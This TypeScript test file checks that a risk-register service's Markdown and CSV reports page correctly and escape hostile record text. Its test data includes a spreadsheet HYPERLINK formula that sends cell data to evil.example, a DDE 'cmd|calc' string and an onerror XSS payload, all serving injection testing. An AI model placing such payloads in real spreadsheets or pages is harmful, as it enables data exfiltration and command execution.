/** Reports of many records and of hostile texts. */
import { parse } from 'csv-parse/sync';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { tokensOf } from '../../bench/tokens.ts';
import { type Answer, startRegister, type TestRegister } from '../support/register.ts';
import { digestOfAnswer, type GetReport, rowsOf, textOfReport, wholeReport } from '../support/reports.ts';

const RISKS = 1_200;
/** Texts that a careless renderer would turn into a formula, markup or very many tokens. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  'a|b|c',
  'two\nlines\n| and | a | row |',
  '`code` and [a link](https://evil.example) and <img src=x onerror=alert(1)>',
  '![picture](https://evil.example/p.png) www.evil.example &lt;b&gt; \\| **bold** ~~gone~~',
  'quote " and, comma',
  '漢字'.repeat(60),
  '🙂🧯'.repeat(40),
  'Zx9'.repeat(60),
  '_slanted_ and __bold__ of snake_case, to anna@example.org',
  '＝SUM(A1);=1+1',
  ...[0x1200, 0x1780].map((first) =>
    Array.from({ length: 90 }, (_, at) => String.fromCodePoint(first + (at % 40))).join(''),
  ),
];

const test = suite<{ register: TestRegister; getReport: GetReport }>('long reports');

test.before(async (context) => {
  const register = await startRegister();
  const { organizationId: organization_id } = register;
  const rows = Array.from({ length: RISKS }, (_, index) => ({
    reference_id: `R-${index}`,
    name: `${index} ${HOSTILE[index % HOSTILE.length]}`.replace(/\s+/g, ' ').slice(0, 180),
    category: HOSTILE[index % HOSTILE.length]!.replace(/\s+/g, ' '),
    description: HOSTILE[(index + 1) % HOSTILE.length]!,
    inherent_likelihood: (index % 5) + 1,
    inherent_impact: (index % 4) + 1,
  }));
  for (let first = 0; first < RISKS; first += 200) {
    const imported = await register.call('importRecords', {
      organization_id,
      type: 'RISK',
      rows: rows.slice(first, first + 200),
    });
    assert.is(imported.created, 200, JSON.stringify(imported).slice(0, 500));
  }
  const getReport: GetReport = async (input) => {
    const answer = await register.call('getReport', { organization_id, ...input });
    assert.is(answer.error, undefined, JSON.stringify(answer.error));
    return answer;
  };
  Object.assign(context, { register, getReport });
});
test.after(({ register }) => register.stop());

test('a report’s JSON pages have every row once, and together give the digest', async ({ getReport }) => {
  const report = await wholeReport(getReport, { type: 'RISK_REGISTER' });
  assert.ok(report.pages > 3);
  const ids = rowsOf(report, 'risks').map(({ id }) => id);
  assert.equal([ids.length, new Set(ids).size], [RISKS, RISKS]);
  assert.is(digestOfAnswer(report), report.digest);
});

test('pages of changes have every row once, and together give the digest', async ({ getReport }) => {
  const report = await wholeReport(getReport, { type: 'CHANGES_BETWEEN', from: '1' });
  assert.ok(report.pages > 3);
  assert.is(digestOfAnswer(report), report.digest);
});

test('a page of Markdown is at most 20,000 tokens and says how many rows follow', async ({ getReport }) => {
  const { pages } = await textOfReport(getReport, { type: 'RISK_REGISTER' });
  assert.ok(pages.length > 1);
  let rows = 0;
  for (const [index, page] of pages.entries()) {
    const tokens = tokensOf(page);
    assert.ok(tokens <= 20_000, `${tokens} tokens`);
    assert.is(/^More rows: /m.test(page), index < pages.length - 1);
    rows += page.split('\n').filter((line) => line.startsWith('| R-')).length;
  }
  // Each risk has a row in the register, and one in the acceptances.
  assert.is(rows, 2 * RISKS);
  assert.ok(tokensOf(pages[0]!) > 5_000, 'the page is filled');
});

test('a record’s text can’t become markup in Markdown', async ({ getReport }) => {
  const { pages } = await textOfReport(getReport, { type: 'RISK_REGISTER' });
  const rows = pages.flatMap((page) => page.split('\n').filter((line) => line.startsWith('| R-')));
  const columns = rows.map((row) => row.replace(/\\[\s\S]/g, '').split('|').length);
  assert.is(new Set(columns.slice(0, 100)).size, 1);
  for (const row of rows) {
    const unescaped = row.replace(/\\[\s\S]/g, '');
    assert.not.match(unescaped, /[`[\]<>*~@]|:\/\/|www\.\w|(?<![a-z0-9])_|_(?![a-z0-9])/i, row);
  }
});

test('a framework’s name can’t become markup in Markdown headings and figures', async ({ register, getReport }) => {
  const { organizationId: organization_id } = register;
  const controls = [{ section_title: '1', name: 'Only one' }];
  const adopt = async (name: string) => {
    const { framework } = await register.call('addFramework', { organization_id, name, controls });
    return (framework as { id: string }).id;
  };
  const framework_id = await adopt('a|b <img src=x> [a link](https://evil.example) `code`');
  await adopt('**bold**');
  const inputs = [{ type: 'POSTURE' }, { type: 'STATEMENT_OF_APPLICABILITY', framework_id }];
  for (const input of inputs) {
    const { pages } = await textOfReport(getReport, input);
    const lines = pages.join('').split('\n');
    const hostile = lines.filter((line) => /evil|bold/.test(line));
    assert.ok(hostile.length > 1);
    for (const line of hostile) {
      // A figure's own name is the only code.
      const unescaped = line.replace(/\\[\s\S]/g, '').replace(/ `coverage:frm_\w{26}` /, ' ');
      assert.not.match(unescaped, /[`[\]<>]|\*\*bold|:\/\//, line);
      if (line.startsWith('| Coverage')) assert.is(unescaped.split('|').length, 8, line);
    }
  }
});

test('a CSV report is one table without formulas', async ({ getReport }) => {
  const { pages } = await textOfReport(getReport, { type: 'RISK_REGISTER', format: 'CSV' });
  assert.ok(pages.length > 1);
  const lines = parse(pages.join(''), { columns: true }) as Record<string, string>[];
  const risks = lines.filter(({ section }) => section === 'risks');
  assert.is(risks.length, RISKS);
  assert.is(lines.filter(({ section }) => section === 'matrix').length, 25);
  for (const line of lines) for (const cell of Object.values(line)) assert.not.match(cell, /(?:^|;)[=+\-@\t\r＝]/);
  const categories = new Set(risks.map(({ category }) => category));
  for (const text of HOSTILE.map((hostile) => hostile.replace(/\s+/g, ' '))) {
    const safe = text.replace(/;(?==)/, ";'");
    assert.ok(categories.has(/^[=+\-@＝]/.test(text) ? `'${safe}` : safe), text);
  }
});

test('a report’s cursor belongs to one report, one format and one account', async ({ register, getReport }) => {
  const { organizationId: organization_id } = register;
  const { next_cursor: cursor } = (await getReport({ type: 'RISK_REGISTER' })) as { next_cursor: string };
  for (const otherInput of [
    { type: 'VENDORS' },
    { type: 'RISK_REGISTER', format: 'CSV' },
    { type: 'RISK_REGISTER', owner_id: 'ME' },
  ]) {
    const { error } = await register.call('getReport', { organization_id, ...otherInput, cursor });
    assert.equal([(error as { code: string }).code, (error as { field: string }).field], ['invalid_input', 'cursor']);
  }
});

test('a later page of a report computes no figures and skips finished sections', async ({ register, getReport }) => {
  const { models } = register.projections;
  const first = (await getReport({ type: 'RISK_REGISTER', format: 'JSON' })) as { next_cursor: string };
  const counting = models.count;
  let counts = 0;
  models.count = (...query) => {
    counts += 1;
    return counting.apply(models, query);
  };
  try {
    await getReport({ type: 'RISK_REGISTER', format: 'JSON', cursor: first.next_cursor });
    assert.is(counts, 0);
    await getReport({ type: 'RISK_REGISTER', format: 'JSON' });
    assert.ok(counts > 0);
  } finally {
    models.count = counting;
  }
});

test('later pages of a report show the first page’s position, despite new writes', async ({ register, getReport }) => {
  const { organizationId: organization_id } = register;
  const before = await wholeReport(getReport, { type: 'RISK_REGISTER' });
  let calls = 0;
  const during = await wholeReport(
    async (input) => {
      if (calls++ === 1)
        await register.call('addRisk', { organization_id, name: 'Late', inherent_likelihood: 5, inherent_impact: 5 });
      return getReport(input);
    },
    { type: 'RISK_REGISTER' },
  );
  assert.is(during.digest, before.digest);
  assert.equal(during.data, before.data);
  const after = await wholeReport(getReport, { type: 'RISK_REGISTER' });
  assert.is(rowsOf(after, 'risks').length, RISKS + 1);
  assert.is.not(after.digest, before.digest);
});

test('a record too large for an answer is cut, and says so', async ({ register, getReport }) => {
  const { organizationId: organization_id } = register;
  const add = (text: string) => {
    const texts = { description: text, root_cause: text, corrective_action: text, effectiveness_check: text };
    return register.call('addNonconformity', { organization_id, ...texts });
  };
  await add('words and words '.repeat(620));
  const fullReport = await wholeReport(getReport, { type: 'NONCONFORMITIES' });
  assert.is(rowsOf(fullReport, 'nonconformities')[0]!.truncated, undefined, 'a row that fits is not shortened');
  assert.is(digestOfAnswer(fullReport), fullReport.digest);
  // JSON writes each quotation mark with two characters.
  const { nonconformity } = await add('"a" '.repeat(2_400));
  const answer = await wholeReport(getReport, { type: 'NONCONFORMITIES' });
  const row = rowsOf(answer, 'nonconformities').find(({ id }) => id === (nonconformity as { id: string }).id);
  assert.is(row!.truncated, true);
  assert.is.not(digestOfAnswer(answer), answer.digest, 'the digest is of the whole row');
  assert.is(answer.truncated, true, 'the answer says that it is shortened');
});

test('a control with very many measures has the newest ones and their number', async ({ register, getReport }) => {
  const { organizationId: organization_id } = register;
  const controls = [{ section_title: 'H.1', name: 'House rule' }];
  const { framework } = await register.call<Record<string, Answer>>('addFramework', {
    organization_id,
    name: 'House rules',
    version: '1',
    controls,
  });
  const rows = Array.from({ length: 130 }, (_, index) => ({ name: `${index} ${'long name '.repeat(15)}` }));
  const imported = await register.call<{ rows: { id: string }[] }>('importRecords', {
    organization_id,
    type: 'MEASURE',
    rows,
  });
  const filter = { framework_id: [framework!.id] };
  const { controls: listed } = await register.call<{ controls: Answer[] }>('listControls', { organization_id, filter });
  const ids = imported.rows.map(({ id }) => id);
  for (let first = 0; first < ids.length; first += 65) {
    const links = ids.slice(first, first + 65).map((to_id) => ({ from_id: listed[0]!.id, to_id }));
    await register.call('linkRecords', { links });
  }
  const input = { type: 'STATEMENT_OF_APPLICABILITY', framework_id: framework!.id };
  const report = await wholeReport(getReport, input);
  const [control] = rowsOf(report, 'controls') as [{ measures: Answer[]; measures_total: number; truncated?: true }];
  assert.equal([control.measures_total, control.truncated], [130, undefined]);
  assert.is(control.measures.length, 100);
  const newest = new Set(control.measures.map(({ id }) => id));
  assert.ok(
    ids.slice(65).every((id) => newest.has(id)),
    'the newest links are there',
  );
  assert.is(digestOfAnswer(report), report.digest);
});

test.run();
